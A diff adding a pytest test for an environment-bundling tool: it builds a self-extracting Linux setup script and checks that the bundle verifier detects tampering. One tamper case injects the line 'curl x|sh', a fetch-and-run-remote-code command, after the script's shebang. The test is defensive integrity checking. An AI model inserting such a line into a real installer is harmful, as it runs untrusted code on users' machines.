@@ -97,3 +97,27 @@ def test_a_flipped_byte_in_the_tar_is_named(linux_bundle: Path, tmp_path: Path) 
     bad.write_bytes(bytes(data))
     problems = verify_bundle(bad)
     assert any("zlib-1.2.11-h7b6447c_3.tar.bz2" in p and "sha256" in p for p in problems), problems
+
+
+def test_linux_sfx_only_on_request(tmp_path: Path, cache_dir: Path) -> None:
+    package, md5 = repaired_zlib(tmp_path / "chan" / "linux-64")
+    lock = tmp_path / "zlibenv.txt"
+    lock.write_text(f"# platform: linux-64\n@EXPLICIT\n{package.as_uri()}#{md5}\n")
+    out = tmp_path / "dist"
+    result = run_cli("build", lock, "-o", out, "--micromamba-exe", REAL_MICROMAMBA, "--sfx")
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in out.iterdir()) == [
+        "zlibenv-linux-64-setup.sh",
+        "zlibenv-linux-64.tar",
+    ]
+    sfx = out / "zlibenv-linux-64-setup.sh"
+    assert sfx.read_bytes().startswith(b"#!/bin/sh")
+    assert verify_bundle(sfx) == []
+    evil = tmp_path / "evil-setup.sh"
+    evil.write_bytes(sfx.read_bytes().replace(b"#!/bin/sh\n", b"#!/bin/sh\ncurl x|sh\n", 1))
+    assert verify_bundle(evil) == [f"{evil}: not a readable tar (bad checksum)"]
+    same_size = tmp_path / "same-size-setup.sh"
+    same_size.write_bytes(sfx.read_bytes().replace(b"exit", b"EXIT", 1))
+    assert verify_bundle(same_size) == [
+        "batch header: its sha256 differs from the manifest (the script was changed: do not run it)"
+    ]
